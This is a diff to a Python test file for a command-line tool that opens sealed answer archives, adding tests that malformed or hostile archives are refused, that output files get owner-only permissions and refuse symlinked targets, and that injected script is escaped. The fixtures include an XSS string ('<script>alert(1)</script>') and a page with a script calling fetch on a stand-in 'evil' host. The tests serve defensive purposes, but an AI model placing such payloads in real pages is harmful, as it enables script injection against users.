@@ -1,12 +1,15 @@
 """One person's answers from several terminals become one; what is not theirs is refused, and nothing is written."""
 
+import io
 import json
+import zipfile
 from pathlib import Path
 
 import pytest
-from nacl.public import PrivateKey
+from nacl.public import PrivateKey, SealedBox
 
 from edge.cli import main
+from edge.journal.keys import load_secret
 from edge.terminal.answers import seal
 
 ANN, BOB = "a" * 26, "b" * 26
@@ -27,8 +30,6 @@ def key(tmp_path: Path) -> Path:
 
 
 def sealed(key: Path, person: str, terminal: str) -> str:
-    from edge.journal.keys import load_secret
-
     public = bytes(PrivateKey(load_secret(key)).public_key)
     path = key.parent / f"{person[0]}-{terminal}.sealed"
     path.write_bytes(seal(answer(person, terminal), public))
@@ -37,7 +38,7 @@ def sealed(key: Path, person: str, terminal: str) -> str:
 
 def read(key: Path, into: Path, *files: str) -> int:
     into.mkdir()
-    return main(["central", "rights", "read", *files, "--key", str(key), "--into", str(into)])
+    return main(["central", "rights", "read", *files, "--key", str(key), "--into", str(into), "--unverified"])
 
 
 def test_answers_of_several_terminals_become_one(key: Path, tmp_path: Path) -> None:
@@ -70,3 +71,82 @@ def test_what_does_not_belong_together_is_refused_and_nothing_written(key, tmp_p
     assert read(key, tmp_path / "out", first, second) == 65
     assert cure in capsys.readouterr().err
     assert list((tmp_path / "out").iterdir()) == []
+
+
+def zipped(data: str, page: str = "x") -> bytearray:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as archive:
+        archive.writestr("data.json", data)
+        archive.writestr("page.html", page)
+    return bytearray(packed.getvalue())
+
+
+def odd(case: str) -> bytes:
+    """Sealed by whoever knows the public half; no terminal makes such a file."""
+    raw = zipped(json.dumps(answer(ANN, "gate-1")))
+    central, local = raw.find(b"PK\x01\x02"), raw.find(b"PK\x03\x04")
+    if case == "a compression that nobody knows":
+        raw[central + 10] = raw[local + 8] = 99
+    elif case == "encrypted":
+        raw[central + 8] |= 1
+        raw[local + 6] |= 1
+    elif case == "not whole":
+        del raw[60:90]
+    return {
+        "no zip": b"rubbish",
+        "brackets without an end": bytes(zipped("[" * 200_000)),
+        "a list": bytes(zipped("[]")),
+        "fields of other types": bytes(zipped(json.dumps({**answer(ANN, "g"), "records": [7]}))),
+        "no data": bytes(zipped("{}")),
+    }.get(case, bytes(raw))
+
+
+@pytest.mark.parametrize(
+    "case",
+    ["a compression that nobody knows", "encrypted", "not whole", "no zip", "brackets without an end", "a list",
+     "fields of other types", "no data"],
+)  # fmt: skip
+def test_a_file_that_no_terminal_made_is_refused_in_one_line(key: Path, tmp_path: Path, capsys, case: str) -> None:
+    public = PrivateKey(load_secret(key)).public_key
+    (tmp_path / "odd.sealed").write_bytes(SealedBox(public).encrypt(odd(case)))
+    assert read(key, tmp_path / "out", str(tmp_path / "odd.sealed")) == 65
+    assert "no terminal's answer" in capsys.readouterr().err
+    assert list((tmp_path / "out").iterdir()) == []
+
+
+def test_the_page_is_made_from_the_data_and_nothing_that_came_with_it_is_shown(key: Path, tmp_path: Path) -> None:
+    said = {**answer(ANN, "gate-1"), "name": "<script>alert(1)</script>"}
+    page = "<html><style></style><script>fetch('http://evil/')</script></html>"
+    public = PrivateKey(load_secret(key)).public_key
+    (tmp_path / "a.sealed").write_bytes(SealedBox(public).encrypt(bytes(zipped(json.dumps(said), page))))
+    assert read(key, tmp_path / "out", str(tmp_path / "a.sealed")) == 0
+    shown = (tmp_path / "out/page.html").read_text()
+    assert "<script" not in shown
+    assert "&lt;script&gt;alert(1)" in shown
+
+
+def test_what_is_written_is_its_owners_alone_and_overwrites_nothing(key: Path, tmp_path: Path) -> None:
+    file, out, precious = sealed(key, ANN, "gate-1"), tmp_path / "out", tmp_path / "precious"
+    assert read(key, out, file) == 0
+    assert [path.stat().st_mode & 0o777 for path in out.iterdir()] == [0o600, 0o600]
+    precious.write_text("precious")
+    for name in ("data.json", "page.html"):
+        into = tmp_path / name.partition(".")[0]
+        into.mkdir()
+        (into / name).symlink_to(precious)
+        assert (
+            main(["central", "rights", "read", file, "--key", str(key), "--into", str(into), "--unverified"]) == 65
+        )
+        assert [path.name for path in into.iterdir()] == [name]
+    assert precious.read_text() == "precious"
+
+
+def test_a_public_half_in_place_of_a_key_says_which_file_is_meant(key: Path, tmp_path: Path, capsys) -> None:
+    assert main(["central", "evidence", "key", str(tmp_path / "evidence")]) == 0
+    capsys.readouterr()
+    words = ["evidence", "open", str(tmp_path), str(tmp_path), "--key", str(tmp_path / "evidence.pem")]
+    (tmp_path / "evidence.pem").chmod(0o600)
+    assert main(["central", *words, "--into", str(tmp_path), "--why", "w"]) == 78
+    said = capsys.readouterr().err
+    assert "not its .pem" in said
+    assert "people" not in said
